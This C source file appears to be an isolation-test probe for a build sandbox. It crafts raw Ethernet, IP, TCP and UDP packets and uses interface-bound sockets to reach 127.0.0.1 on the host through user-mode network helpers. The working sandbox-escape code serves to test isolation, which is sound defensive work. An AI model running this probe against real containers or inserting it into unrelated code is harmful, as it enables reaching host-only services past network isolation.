/* Attacker's probe for `escape_crafted_packets_reach_host_loopback`
   (builder/tests/isolation/network.rs): from a default-network RUN, hand-made
   frames on the namespace's interface (AF_PACKET, which needs CAP_NET_RAW)
   carry a TCP SYN and a UDP datagram addressed to 127.0.0.1, the gateway's MAC
   as link destination; a raw IP socket with IP_HDRINCL (CAP_NET_RAW too)
   sends another datagram routed to the gateway but addressed to 127.0.0.1;
   plain UDP and TCP sockets bound to the interface (SO_BINDTODEVICE, or
   IP_PKTINFO per datagram; no capability needed) try too: with an output device given, the kernel
   takes a destination it finds no route for as on-link. The kernel never routes 127.0.0.0/8 out of a device,
   but a user-mode stack (pasta, slirp4netns) terminates what reaches its tap
   and opens host sockets to the destination it reads: the host's loopback.
   Usage: escape TCP_PORT UDP_PORT [UDP6_PORT]; prints key=value lines. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

static int fd;
static unsigned char mac[6], gwmac[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
static uint32_t myip, gwip, loopback; /* network byte order */

static uint32_t sum16(const unsigned char *p, size_t len, uint32_t sum) {
    for (; len > 1; p += 2, len -= 2) sum += (uint32_t)p[0] << 8 | p[1];
    if (len) sum += (uint32_t)p[0] << 8;
    return sum;
}
static void put_csum(unsigned char *at, uint32_t sum) {
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    sum = ~sum & 0xffff;
    at[0] = sum >> 8; at[1] = sum;
}
static void put16(unsigned char *p, uint16_t v) { p[0] = v >> 8; p[1] = v; }
static void put32(unsigned char *p, uint32_t v) { put16(p, v >> 16); put16(p + 2, v); }
static uint16_t get16(const unsigned char *p) { return (uint16_t)(p[0] << 8 | p[1]); }
static uint32_t get32(const unsigned char *p) { return (uint32_t)get16(p) << 16 | get16(p + 2); }

/* Ethernet to the gateway's MAC + IPv4 from our address to `dst`; returns the L4 offset. */
static size_t headers(unsigned char *f, uint8_t proto, uint32_t dst, size_t l4len) {
    memcpy(f, gwmac, 6); memcpy(f + 6, mac, 6); put16(f + 12, 0x0800);
    unsigned char *ip = f + 14;
    memset(ip, 0, 20);
    ip[0] = 0x45; put16(ip + 2, 20 + l4len); put16(ip + 4, rand() & 0xffff); ip[6] = 0x40; ip[8] = 64; ip[9] = proto;
    memcpy(ip + 12, &myip, 4); memcpy(ip + 16, &dst, 4);
    put_csum(ip + 10, sum16(ip, 20, 0));
    return 34;
}
static uint32_t pseudo(uint32_t dst, uint8_t proto, size_t len) {
    return sum16((unsigned char *)&myip, 4, 0) + sum16((unsigned char *)&dst, 4, 0) + proto + len;
}
static void tcp(uint16_t sport, uint16_t dport, uint32_t seq, uint32_t ack, uint8_t flags) {
    unsigned char f[128];
    size_t o = headers(f, 6, loopback, 24), len = 24;
    unsigned char *t = f + o;
    memset(t, 0, len);
    put16(t, sport); put16(t + 2, dport); put32(t + 4, seq); put32(t + 8, ack);
    t[12] = 6 << 4; t[13] = flags; put16(t + 14, 65000);
    t[20] = 2; t[21] = 4; put16(t + 22, 1460); /* MSS */
    put_csum(t + 16, sum16(t, len, pseudo(loopback, 6, len)));
    send(fd, f, o + len, 0);
}
static void udp(uint16_t sport, uint16_t dport, const char *msg) {
    unsigned char f[256];
    size_t n = strlen(msg), len = 8 + n, o = headers(f, 17, loopback, len);
    unsigned char *u = f + o;
    put16(u, sport); put16(u + 2, dport); put16(u + 4, len); put16(u + 6, 0);
    memcpy(u + 8, msg, n);
    put_csum(u + 6, sum16(u, len, pseudo(loopback, 17, len)));
    send(fd, f, o + len, 0);
}
static long now_ms(void) {
    struct timespec ts; clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}
/* Receives one frame within the deadline; its length, or 0. */
static ssize_t next(unsigned char *buf, size_t cap, long deadline) {
    long left = deadline - now_ms();
    if (left <= 0) return 0;
    struct pollfd p = {fd, POLLIN, 0};
    if (poll(&p, 1, left) <= 0) return 0;
    ssize_t n = recv(fd, buf, cap, 0);
    return n < 0 ? 0 : n;
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    uint16_t tport = atoi(argv[1]), uport = atoi(argv[2]);
    loopback = htonl(INADDR_LOOPBACK);
    srand(getpid() ^ time(0));
    /* The default route: interface and gateway. */
    char ifname[IFNAMSIZ] = "", line[256];
    FILE *rt = fopen("/proc/net/route", "r");
    while (rt && fgets(line, sizeof line, rt)) {
        char name[64]; unsigned dst, gw;
        if (sscanf(line, "%63s %x %x", name, &dst, &gw) == 3 && dst == 0) {
            snprintf(ifname, sizeof ifname, "%.15s", name); gwip = gw;
        }
    }
    if (!ifname[0]) { printf("no-default-route\n"); return 1; }
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct ifreq ifr; memset(&ifr, 0, sizeof ifr); snprintf(ifr.ifr_name, IFNAMSIZ, "%s", ifname);
    if (ioctl(s, SIOCGIFHWADDR, &ifr) == 0) memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
    if (ioctl(s, SIOCGIFADDR, &ifr) == 0) myip = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
    printf("iface=%s\n", ifname);

    /* Without any capability: a UDP socket bound to the interface, sending to
       127.0.0.1 (the kernel must keep it off the device). */
    int bound = socket(AF_INET, SOCK_DGRAM, 0);
    long brc = setsockopt(bound, SOL_SOCKET, SO_BINDTODEVICE, ifname, strlen(ifname));
    if (brc == 0) {
        struct sockaddr_in to = {0};
        to.sin_family = AF_INET; to.sin_port = htons(uport); to.sin_addr.s_addr = loopback;
        brc = sendto(bound, "rbuild-bound-udp-escape", 23, 0, (struct sockaddr *)&to, sizeof to);
    }
    printf("bound_udp=%d\n", brc < 0 ? errno : 0);
    /* The same without binding: the interface given per datagram (IP_PKTINFO). */
    int pk = socket(AF_INET, SOCK_DGRAM, 0);
    {
        struct sockaddr_in to = {0};
        to.sin_family = AF_INET; to.sin_port = htons(uport); to.sin_addr.s_addr = loopback;
        char ctl[CMSG_SPACE(sizeof(struct in_pktinfo))] = {0};
        struct iovec iov = {"rbuild-pktinfo-udp-escape", 25};
        struct msghdr mh = {&to, sizeof to, &iov, 1, ctl, sizeof ctl, 0};
        struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
        c->cmsg_level = IPPROTO_IP; c->cmsg_type = IP_PKTINFO; c->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
        struct in_pktinfo info = {0};
        info.ipi_ifindex = if_nametoindex(ifname);
        memcpy(CMSG_DATA(c), &info, sizeof info);
        long prc = sendmsg(pk, &mh, 0);
        printf("pktinfo_udp=%d\n", prc < 0 ? errno : 0);
    }
    close(pk);
    /* The same over IPv6 to [::1] (where the helper gives the namespace IPv6). */
    if (argc > 3) {
        int b6 = socket(AF_INET6, SOCK_DGRAM, 0);
        long rc6 = setsockopt(b6, SOL_SOCKET, SO_BINDTODEVICE, ifname, strlen(ifname));
        if (rc6 == 0) {
            struct sockaddr_in6 to6 = {0};
            to6.sin6_family = AF_INET6; to6.sin6_port = htons(atoi(argv[3])); to6.sin6_addr = in6addr_loopback;
            rc6 = sendto(b6, "rbuild-bound6-udp-escape", 24, 0, (struct sockaddr *)&to6, sizeof to6);
        }
        printf("bound6_udp=%d\n", rc6 < 0 ? errno : 0);
        close(b6);
    }
    /* The same for TCP: a connection bound to the interface. */
    int btcp = socket(AF_INET, SOCK_STREAM, 0);
    struct timeval tv = {3, 0};
    setsockopt(btcp, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    setsockopt(btcp, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    if (setsockopt(btcp, SOL_SOCKET, SO_BINDTODEVICE, ifname, strlen(ifname)) == 0) {
        struct sockaddr_in to = {0};
        to.sin_family = AF_INET; to.sin_port = htons(tport); to.sin_addr.s_addr = loopback;
        char got[128] = "";
        if (connect(btcp, (struct sockaddr *)&to, sizeof to) == 0) {
            ssize_t n = read(btcp, got, sizeof got - 1);
            if (n > 0) got[n] = 0;
            printf("bound_tcp=connected data=%s\n", got);
        } else {
            printf("bound_tcp=%d\n", errno);
        }
    }
    close(btcp);

    fd = socket(AF_PACKET, SOCK_RAW, htons(0x0003 /* ETH_P_ALL */));
    printf("packet_socket=%d\n", fd < 0 ? errno : 0);
    /* Second path: a raw IP socket (IP_HDRINCL) routes by the address given
       to sendto (the gateway) but sends the header as written: to 127.0.0.1. */
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    printf("raw_socket=%d\n", raw < 0 ? errno : 0);
    if (raw >= 0) {
        unsigned char f[256];
        const char *msg = "rbuild-hdrincl-udp-escape";
        size_t n = strlen(msg), len = 8 + n;
        headers(f, 17, loopback, len);
        unsigned char *u = f + 34;
        put16(u, 30000 + rand() % 20000); put16(u + 2, uport); put16(u + 4, len); put16(u + 6, 0);
        memcpy(u + 8, msg, n);
        put_csum(u + 6, sum16(u, len, pseudo(loopback, 17, len)));
        struct sockaddr_in to = {0};
        to.sin_family = AF_INET; to.sin_addr.s_addr = gwip;
        long rc = sendto(raw, f + 14, 20 + len, 0, (struct sockaddr *)&to, sizeof to);
        printf("hdrincl_udp=%d\n", rc < 0 ? errno : 0);
    }
    if (fd < 0) return 0;
    struct sockaddr_ll ll = {0};
    ll.sll_family = AF_PACKET; ll.sll_protocol = htons(0x0003); ll.sll_ifindex = if_nametoindex(ifname);
    if (bind(fd, (struct sockaddr *)&ll, sizeof ll) != 0) { printf("bind=%d\n", errno); return 0; }

    /* ARP for the gateway: answered by the helper itself. */
    unsigned char f[2048];
    memset(f, 0xff, 6); memcpy(f + 6, mac, 6); put16(f + 12, 0x0806);
    put16(f + 14, 1); put16(f + 16, 0x0800); f[18] = 6; f[19] = 4; put16(f + 20, 1);
    memcpy(f + 22, mac, 6); memcpy(f + 28, &myip, 4); memset(f + 32, 0, 6); memcpy(f + 38, &gwip, 4);
    send(fd, f, 42, 0);
    long deadline = now_ms() + 2000;
    ssize_t n;
    while ((n = next(f, sizeof f, deadline)) > 0) {
        if (n >= 42 && get16(f + 12) == 0x0806 && get16(f + 20) == 2 && memcmp(f + 28, &gwip, 4) == 0) {
            memcpy(gwmac, f + 22, 6);
            printf("gateway_mac=%02x:%02x:%02x:%02x:%02x:%02x\n", f[22], f[23], f[24], f[25], f[26], f[27]);
            break;
        }
    }

    udp(30000 + rand() % 20000, uport, "rbuild-packet-udp-escape");
    printf("udp=sent\n");

    uint16_t sport = 30000 + rand() % 20000;
    uint32_t iss = rand();
    tcp(sport, tport, iss, 0, 0x02 /* SYN */);
    const char *result = "none";
    deadline = now_ms() + 4000;
    while ((n = next(f, sizeof f, deadline)) > 0) {
        if (n < 54 || get16(f + 12) != 0x0800 || f[23] != 6 || memcmp(f + 26, &loopback, 4) != 0) continue;
        unsigned char *t = f + 14 + (f[14] & 15) * 4;
        if (get16(t) != tport || get16(t + 2) != sport) continue;
        uint8_t flags = t[13];
        size_t hl = (t[12] >> 4) * 4, total = get16(f + 16), datalen = total - (f[14] & 15) * 4 - hl;
        if ((flags & 0x12) == 0x12) {
            result = "synack";
            printf("tcp=synack\n");
            tcp(sport, tport, iss + 1, get32(t + 4) + 1, 0x10 /* ACK */);
        } else if (flags & 0x04) {
            if (strcmp(result, "none") == 0) result = "rst";
            break;
        } else if (datalen > 0) {
            printf("tcp_data=%.*s\n", (int)datalen, (char *)t + hl);
            tcp(sport, tport, iss + 1, get32(t + 4) + datalen, 0x04 /* RST */);
            break;
        }
    }
    printf("tcp_result=%s\n", result);
    return 0;
}
